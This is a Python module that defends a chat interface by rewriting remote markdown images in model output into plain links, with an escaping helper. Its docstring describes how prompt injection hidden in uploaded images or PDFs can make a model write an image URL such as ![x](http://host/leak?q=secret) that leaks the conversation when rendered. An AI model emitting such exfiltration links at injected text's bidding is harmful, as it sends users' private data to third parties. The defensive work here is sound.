"""Model text made safe to render: remote images in markdown become plain links.

A markdown image in an answer, ``![x](http://host/leak?q=secret)``, makes the
browser fetch that address as soon as the text is shown, with no click: text
hidden in an uploaded image or PDF can make the model write one and so send the
conversation anywhere (prompt injection, then exfiltration). The app's
Content-Security-Policy (``img-src 'self' data: blob:``, :mod:`ui.security`)
already stops the fetch; :func:`link_remote_images` also rewrites such images
into links, so the person sees a link they may follow instead of a broken image.

Images are found with markdown-it-py, a CommonMark parser (the Chainlit page
renders with remark, also CommonMark), so code spans, code blocks and escaped
``\\![`` are left alone.
"""

from __future__ import annotations

import re
from typing import Any, Final

from markdown_it import MarkdownIt
from markdown_it.rules_inline.image import image as _parse_image
from markdown_it.rules_inline.state_inline import StateInline
from markdown_it.token import Token

_ENV_KEY: Final = "kimi_images"
_PASSES: Final = 4
"""Rewrites before giving up on precision: an image inside another image's text
only shows once the outer one is a link."""
_BANG_BEFORE_BRACKET: Final = re.compile(r"!(?=\[)")


def _recording_image(state: StateInline, silent: bool) -> bool:
    """markdown-it's image rule, noting where each image starts and its address."""
    start = state.pos
    count = len(state.tokens)
    found = _parse_image(state, silent)
    if found and not silent:
        src = next(t.attrGet("src") for t in state.tokens[count:] if t.type == "image")
        state.env.setdefault(_ENV_KEY, []).append((state.src, start, str(src or "")))
    return found


def _parser() -> MarkdownIt:
    """CommonMark plus GFM tables (remark-gfm renders tables in Chainlit)."""
    md = MarkdownIt("commonmark").enable("table")
    md.inline.ruler.at("image", _recording_image)
    return md


_MD: Final = _parser()


_MARKDOWN_PUNCTUATION: Final = re.compile(r"([\\`*_{}\[\]<>()#+\-.!|~$:&^@])")
"""ASCII punctuation with a meaning in the page's markdown: CommonMark's, GFM's (tables,
strikethrough, autolinks), remark-math's ``$`` and remark-directive's ``:`` (Chainlit's
``Markdown.tsx``); CommonMark lets a backslash make any of them literal."""
_LINE_BREAK: Final = re.compile(r"\r\n?|\n")


def escape_markdown(text: str) -> str:
    """``text`` (a file name, a label, model or user text) to put inside a line of markdown,
    where it renders as written: markdown's punctuation backslash-escaped, line breaks as
    spaces (a break could start a new block: a list, a heading, a link definition).

    E.g. ``escape_markdown("![x](http://h/a).png")`` is ``"\\!\\[x\\]\\(http\\://h/a\\)\\.png"``.
    """
    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", _LINE_BREAK.sub(" ", text))


def is_remote(src: str) -> bool:
    """True for an image address the browser would fetch: anything but ``data:``."""
    return not src.strip().lower().startswith("data:")


def _image_starts(text: str) -> list[int] | None:
    """Offsets in ``text`` of the ``!`` of each remote image, or None if one cannot be placed.

    markdown-it gives inline text per block (list markers, ``>`` and indentation
    removed) and the block's first line, so an image's column in that text is
    found again in its source line.
    """
    env: dict[str, Any] = {}
    tokens = _MD.parse(text, env)
    records: list[tuple[str, int, str]] = env.get(_ENV_KEY, [])
    if not any(is_remote(src) for _, _, src in records):
        return []
    lines = text.splitlines(keepends=True)
    line_start = [0]
    for line in lines:
        line_start.append(line_start[-1] + len(line))
    starts: list[int] = []
    for token in _inline_tokens(tokens):
        for source, pos, src in records:
            if source is not token.content or not is_remote(src):
                continue  # a nested parse (an image's own text) or a data: image
            if token.map is None:
                return None
            row = source.count("\n", 0, pos)
            col = pos - (source.rfind("\n", 0, pos) + 1)
            inline_line = source.split("\n")[row]
            index = token.map[0] + row
            if index >= len(lines):
                return None
            source_line = lines[index].rstrip("\r\n")
            offset = source_line.find(inline_line)
            at = line_start[index] + offset + col
            if offset < 0 or text[at : at + 2] != "![":
                return None
            starts.append(at)
    return sorted(set(starts))


def _inline_tokens(tokens: list[Token]) -> list[Token]:
    """The ``inline`` tokens of a parse, in document order."""
    return [token for token in tokens if token.type == "inline"]


def link_remote_images(text: str) -> str:
    """Rewrite every markdown image with a remote address into a plain link.

    ``![chart](https://x/c.png)`` becomes ``[chart](https://x/c.png)``; an image
    with no text, ``![](https://x/c.png)``, becomes ``[image](https://x/c.png)``.
    Reference images (``![x][ref]``) become reference links. ``data:`` images
    (nothing to fetch) and anything inside code are kept as written. If an
    image cannot be placed in the source (markdown-it's inline text differs
    from the line, e.g. after tab expansion), every ``![`` is rewritten, code
    included: no image is left either way.

    Args:
        text: markdown as the model wrote it (any length; one parse per pass).

    Returns:
        The same markdown in which no remote image remains.
    """
    if "![" not in text:
        return text
    for _ in range(_PASSES):
        starts = _image_starts(text)
        if starts is None:
            break  # cannot place an image: rewrite them all, below
        if not starts:
            return text
        for at in reversed(starts):
            text = text[:at] + ("[image" if text[at + 2 : at + 3] == "]" else "[") + text[at + 2 :]
    return _BANG_BEFORE_BRACKET.sub("", text.replace("![]", "[image]"))
